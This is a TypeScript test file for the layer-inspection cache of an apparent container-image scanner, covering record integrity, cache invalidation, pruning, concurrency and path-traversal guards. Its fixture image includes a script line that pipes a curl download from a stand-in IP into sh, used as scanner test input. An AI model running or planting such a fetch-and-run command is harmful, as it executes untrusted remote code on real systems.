import { mkdtemp, readdir, readFile, rm, symlink, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { analyzers } from '../analyzers/all.gen.ts';
import { defaultLimits } from '../archive/limits.ts';
import type { Image, Layer } from '../image/image.ts';
import { buildImage, imageOfBuilt } from '../testing/image-builder.ts';
import { cachedInspection } from './cached-layers.ts';
import { inspectLayer, type LayerInspection, type LayerOptions } from './layer.ts';
import { createLayerCache } from './layer-cache.ts';
import { decodeLayer, encodeLayer } from './layer-record.ts';

let folder = '';
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'tidewaiter-cache-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const example = {
  layers: [
    {
      '/run.sh': { content: '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', mode: 0o755 },
      '/etc/passwd': 'root:x:0:0::/root:/bin/sh\n',
      '/link': { link: 'run.sh' },
      '/notes.txt': 'nothing to see\n',
    },
    { '/run.sh': null },
  ],
};
const image: Image = imageOfBuilt(buildImage(example));
const options: LayerOptions = { analyzers, limits: defaultLimits };

/** An inspector that counts how often it has to read. */
function counting(): { readonly inspect: typeof inspectLayer; reads: number } {
  const counted = {
    reads: 0,
    inspect: async (layer: Layer, given: LayerOptions): Promise<LayerInspection> => {
      counted.reads += 1;
      return await inspectLayer(layer, given);
    },
  };
  return counted;
}

const layerOf = (at: number): Layer => image.layers[at] as Layer;
const uncached = ({ facts, ...rest }: LayerInspection) => ({ ...rest, facts: { ...facts, cached: false } });
let turn = 0;
const fresh = (bytes = 1e9) => createLayerCache(join(folder, String(turn++)), bytes);

describe('a record', () => {
  test.each([0, 1])('gives layer %i back as it was', async (at) => {
    const read = await inspectLayer(layerOf(at), options);
    const record = encodeLayer(read);
    const back = decodeLayer(record as Uint8Array, at, layerOf(at).history);
    expect(back?.facts.cached).toBe(true);
    expect(uncached(back as LayerInspection)).toEqual(read);
  });
  test('fits whatever place the layer has in another image', async () => {
    const record = encodeLayer(await inspectLayer(layerOf(0), options)) as Uint8Array;
    const back = decodeLayer(record, 7, undefined);
    expect(back?.facts.index).toBe(7);
    expect([...(back?.facts.files ?? [])].every((file) => file.layer === 7)).toBe(true);
    expect(back?.facts.analyzed.every((fact) => fact.layer === 7)).toBe(true);
    expect(back?.facts.history).toBeUndefined();
  });
  test('is not made of a layer with a gap', async () => {
    const read = await inspectLayer(layerOf(0), { ...options, limits: { ...defaultLimits, layerEntries: 1 } });
    expect(read.facts.gaps).not.toEqual([]);
    expect(encodeLayer(read)).toBeUndefined();
  });
  test('with a single byte changed, cut or added is none', async () => {
    const record = encodeLayer(await inspectLayer(layerOf(0), options)) as Buffer;
    fc.assert(
      fc.property(fc.nat(record.length - 1), fc.integer({ min: 1, max: 255 }), (at, change) => {
        const broken = Buffer.from(record);
        broken[at] = (broken[at] as number) ^ change;
        expect(decodeLayer(broken, 0, undefined)).toBeUndefined();
      }),
      { numRuns: 200 },
    );
    expect(decodeLayer(record.subarray(0, -1), 0, undefined)).toBeUndefined();
    expect(decodeLayer(Buffer.concat([record, Buffer.from('x')]), 0, undefined)).toBeUndefined();
    expect(decodeLayer(new Uint8Array(0), 0, undefined)).toBeUndefined();
  });
});

describe('inspection through a cache', () => {
  test('reads a layer once, and says the same the second time', async () => {
    const counted = counting();
    const inspect = cachedInspection(fresh(), analyzers, counted.inspect);
    const first = await inspect(layerOf(0), options);
    const second = await inspect(layerOf(0), options);
    expect(counted.reads).toBe(1);
    expect(second.facts.cached).toBe(true);
    expect(uncached(second)).toEqual(first);
  });
  test('keeps texts that were asked for later, and gives only those', async () => {
    const counted = counting();
    const inspect = cachedInspection(fresh(), analyzers, counted.inspect);
    await inspect(layerOf(0), options);
    const wanted: LayerOptions = {
      analyzers: [],
      limits: defaultLimits,
      want: new Set(['/notes.txt']),
      onlyWanted: true,
    };
    const texts = (read: LayerInspection) => [...read.kept.values()].map((bytes) => Buffer.from(bytes).toString());
    expect(texts(await inspect(layerOf(0), wanted))).toEqual(['nothing to see\n']);
    expect(texts(await inspect(layerOf(0), wanted))).toEqual(['nothing to see\n']);
    expect(counted.reads).toBe(2);
  });
  test.each<[string, LayerOptions, typeof analyzers]>([
    ['other limits', { ...options, limits: { ...defaultLimits, textBytes: 10 } }, analyzers],
    ['another version of an analyzer', options, analyzers.map((each) => ({ ...each, version: each.version + 1 }))],
    ['another set of analyzers', options, analyzers.slice(1)],
  ])('%s need another reading', async (_title, later, with_) => {
    const counted = counting();
    const cache = fresh();
    await cachedInspection(cache, analyzers, counted.inspect)(layerOf(0), options);
    await cachedInspection(cache, with_, counted.inspect)(layerOf(0), later);
    expect(counted.reads).toBe(2);
  });
  test('a damaged record is read anew and mended', async () => {
    const counted = counting();
    const cache = fresh();
    const inspect = cachedInspection(cache, analyzers, counted.inspect);
    await inspect(layerOf(0), options);
    const [name = ''] = await readdir(cache.folder);
    const whole = await readFile(join(cache.folder, name));
    await writeFile(join(cache.folder, name), whole.subarray(0, 100));
    expect((await inspect(layerOf(0), options)).facts.cached).toBe(false);
    expect((await inspect(layerOf(0), options)).facts.cached).toBe(true);
    expect(counted.reads).toBe(2);
  });
  test('the record of another layer under this key is not believed', async () => {
    const counted = counting();
    const cache = fresh();
    const inspect = cachedInspection(cache, analyzers, counted.inspect);
    await inspect(layerOf(0), options);
    const [first = ''] = await readdir(cache.folder);
    await inspect(layerOf(1), options);
    const second = (await readdir(cache.folder)).find((name) => name !== first) ?? '';
    await writeFile(join(cache.folder, first), await readFile(join(cache.folder, second)));
    expect((await inspect(layerOf(0), options)).facts.digest).toBe(layerOf(0).digest);
    expect(counted.reads).toBe(3);
  });
  test('a layer whose bytes are not what was promised is never kept', async () => {
    const cache = fresh();
    const liar: Layer = { ...layerOf(0), open: layerOf(1).open };
    const read = await cachedInspection(cache, analyzers)(liar, options);
    expect(read.facts.gaps).not.toEqual([]);
    expect(await cache.entries()).toEqual([]);
  });
  test('a layer nobody states a digest of is read each time', async () => {
    const counted = counting();
    const { digest: _digest, diffId: _diffId, ...nameless } = layerOf(0);
    const inspect = cachedInspection(fresh(), analyzers, counted.inspect);
    await inspect(nameless, options);
    await inspect(nameless, options);
    expect(counted.reads).toBe(2);
  });
});

describe('the folder', () => {
  const key = (digit: string) => digit.repeat(64);
  test('holds no more than its bound; what was used longest ago goes first', async () => {
    const cache = fresh(250);
    for (const digit of ['1', '2']) {
      await cache.save(key(digit), new Uint8Array(100));
      const past = new Date(Date.now() - 100_000 + Number(digit) * 1_000);
      await utimes(join(cache.folder, `${key(digit)}.layer`), past, past);
    }
    await cache.load(key('1'));
    await cache.save(key('3'), new Uint8Array(100));
    expect((await cache.entries()).map((entry) => entry.key[0]).sort()).toEqual(['1', '3']);
    expect(await cache.load(key('2'))).toBeUndefined();
    expect((await cache.prune(0)).length).toBe(2);
  });
  test('is written by many at once without a torn record', async () => {
    const cache = fresh();
    const writers = Array.from({ length: 20 }, (_, at) => cache.save(key('a'), new Uint8Array(50_000).fill(at)));
    const readers = Array.from({ length: 20 }, () => cache.load(key('a')));
    await Promise.all(writers);
    for (const read of [...(await Promise.all(readers)), await cache.load(key('a'))])
      if (read !== undefined) expect(new Set(read).size).toBe(1);
    expect((await readdir(cache.folder)).filter((name) => name.endsWith('.part'))).toEqual([]);
  });
  test('that cannot be written stops nothing; links in it are not followed', async () => {
    const file = join(folder, 'file');
    await writeFile(file, 'x');
    const none = createLayerCache(join(file, 'below'), 1e9);
    await none.save(key('a'), new Uint8Array(1));
    expect(await none.load(key('a'))).toBeUndefined();
    expect(await none.entries()).toEqual([]);
    const cache = fresh();
    await cache.save(key('b'), new Uint8Array(1));
    await symlink(file, join(cache.folder, `${key('c')}.layer`));
    expect(await cache.load(key('c'))).toBeUndefined();
    await expect(cache.load('../../etc/passwd')).rejects.toThrow(RangeError);
  });
});
